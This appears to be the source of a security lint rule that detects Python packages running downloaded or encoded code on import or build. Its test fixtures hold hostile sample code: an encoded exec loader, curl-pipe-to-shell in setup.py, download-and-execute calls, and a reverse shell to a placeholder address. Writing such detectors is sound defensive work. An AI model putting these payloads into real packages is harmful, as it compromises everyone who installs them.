import type { Sdist, Wheel } from '../../src/distribution/distribution.js'
import type { Draft } from '../../src/finding.js'
import { oncePer } from '../../src/once.js'
import { onImport } from '../../src/python/on-import.js'
import { finding, quote, rule } from '../../src/rule.js'
import { importChain } from '../../src/views/import-chain.js'

export default rule({
  id: 'runs-on-import',
  topic: 'contents',
  severity: 'warning',
  applies: ['wheel', 'sdist', 'release'],
  enforcedBy: [],
  force: 'none',
  source: 'PyPI, "Malware reports"; security advice of ours',
  url: 'https://docs.pypi.org/project-management/storage-limits/',
  summary:
    'A package downloads something and starts a program, or runs code that it contains in an encoded form, when it is imported. Or setup.py does so during the build.',
  why: 'Everyone who imports or builds it runs code that nobody has reviewed and that can change at any time. Most malicious releases work this way.',
  breaks: 'Importing the package runs code from the network, which the previous release did not.',
  fix: 'Move the code to a function that the user calls, ship the file instead of downloading it, and write code as plain text.',
  precision: 'high',
  securitySeverity: 8,
  needs: ['python-imports'],
  bad: [
    {
      wheel: {
        files: {
          'demo/__init__.py':
            "import base64\nimport zlib\n\n_ = lambda data: zlib.decompress(base64.b64decode(data))\nexec(_(b'eJzLzC3ILypRKEksLtYryizRUC/PyCxRV8hMUVAsLcnIL1IvSU0BqQEA5lMOYA=='))\n",
        },
      },
    },
    {
      wheel: {
        files: {
          'demo/__init__.py':
            'import subprocess, sys\n\n\ndef _task():\n    subprocess.run(["curl", "-s", "https://demo.invalid/x", "-o", "/tmp/x"])\n    subprocess.Popen([sys.executable, "/tmp/x"])\n\n\n_task()\n',
        },
      },
    },
    {
      wheel: {
        files: {
          'demo/__init__.py':
            'import urllib.request\n\nexec(urllib.request.urlopen("https://demo.invalid/x").read())\n',
        },
      },
    },
    {
      sdist: {
        files: {
          '{top}/setup.py':
            'import os\nfrom setuptools import setup\n\nos.system("curl https://demo.invalid/x | sh")\nsetup(name="demo", version="1.0")\n',
        },
      },
    },
    {
      wheel: {
        files: {
          'demo/__init__.py':
            'import ctypes\nimport pickle\nfrom urllib.request import urlopen, urlretrieve\n\nurlretrieve("https://demo.invalid/x", "/tmp/x.so")\nctypes.CDLL("/tmp/x.so")\npickle.loads(urlopen("https://demo.invalid/y").read())\n',
        },
      },
    },
    {
      wheel: {
        files: {
          'demo/__init__.py':
            'import os\nimport pty\nimport socket\n\ns = socket.socket()\ns.connect(("192.0.2.1", 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn("/bin/sh")\n',
        },
      },
    },
    {
      baseline: [{ wheel: { version: '0.9' } }],
      release: [
        {
          wheel: {
            files: {
              'demo/__init__.py':
                'import os\nimport urllib.request\n\nurllib.request.urlretrieve("https://demo.invalid/x", "/tmp/x")\nos.system("/tmp/x")\n',
            },
          },
        },
      ],
    },
  ],
  good: [
    {
      wheel: {
        files: {
          'demo/__init__.py':
            "import base64\n\nLOGO = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk')\nexec('x = 1')\n",
        },
      },
    },
    {
      sdist: {
        files: {
          '{top}/setup.py':
            'import os, sys\nfrom setuptools import setup\n\nif "--fetch" in sys.argv:\n    os.system("curl https://demo.invalid/x | sh")\nif False:\n    os.system("curl https://demo.invalid/y | sh")\nsetup(name="demo", version="1.0")\n',
        },
      },
    },
    {
      sdist: {
        files: {
          '{top}/setup.py':
            'import subprocess\nfrom setuptools import setup\n\ntry:\n    pass\nexcept ImportError:\n    subprocess.call(["pip", "install", "pybind11"])\nsetup(name="demo", version="1.0")\n',
        },
      },
    },
    {
      sdist: {
        files: {
          '{top}/setup.py':
            'import os\nfrom setuptools import setup\n\nos.system("pip install -e .")\nsetup(name="demo", version="1.0")\n',
        },
      },
    },
    {
      wheel: {
        files: {
          'demo/__init__.py':
            'import subprocess\nimport urllib.request\n\n\ndef fetch(url):\n    urllib.request.urlretrieve(url, "x")\n    subprocess.run(["./x"])\n',
        },
      },
    },
    {
      wheel: {
        files: {
          'demo/__init__.py':
            'import socket\nimport subprocess\n\nrevision = subprocess.run(["git", "describe"], capture_output=True).stdout\nprobe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nprobe.connect(("192.0.2.1", 80))\nprint(probe.fileno(), probe.getsockname())\n',
        },
      },
    },
  ],
  *check(subject) {
    if (subject.kind !== 'release') {
      // The texts are not kept for the release, so they are read here.
      const found = deedsOf(subject)
      if (found) yield found
      return
    }
    const { baseline, distributions } = subject
    if (!baseline) return
    for (const one of distributions) {
      const found = deedsOf(one)
      const before = baseline.distributions.filter(({ kind }) => kind === one.kind)
      if (!found || before.length === 0 || before.some(other => deedsOf(other))) continue
      yield finding(found.at, `${found.message.slice(0, -1)}; version ${baseline.version} does not.`, {
        path: one.path,
        severity: 'error',
        subject: 'new',
      })
    }
  },
})

const deedsOf = oncePer((subject: Wheel | Sdist): Draft | undefined => {
  for (const member of filesOf(subject)) {
    const file = subject.python.get(member)
    const found = file && onImport(file.text)
    const [decode] = found?.decodes ?? []
    const when = subject.kind === 'wheel' ? 'when it is imported' : 'when it is built'
    if (decode)
      return finding(
        { member, line: decode.line, column: decode.column },
        `${quote(member)} runs code that is encoded in it (${quote(decode.call)}) ${when}.`,
      )
    const [download] = found?.downloads ?? []
    const start = found?.starts.find(({ line }) => line >= (download?.line ?? 0)) ?? found?.starts[0]
    if (!download || !start) continue
    const what = download.isRemote
      ? `connects to a server (${quote(download.call)}) and starts a program that the server controls (${quote(start.call)} on line ${start.line})`
      : start.line === download.line
        ? `downloads something and starts it (${quote(start.call)})`
        : `downloads something (${quote(download.call)}) and ${/^(?:subprocess|os)\./.test(start.call) ? 'starts a program' : 'runs code'} (${quote(start.call)} on line ${start.line})`
    return finding({ member, line: download.line, column: download.column }, `${quote(member)} ${what} ${when}.`)
  }
  return undefined
})

function filesOf(subject: Wheel | Sdist): readonly string[] {
  if (subject.kind === 'wheel') return importChain(subject).modules.map(({ member }) => member)
  return subject.top === undefined ? [] : [`${subject.top}/setup.py`, `./${subject.top}/setup.py`]
}
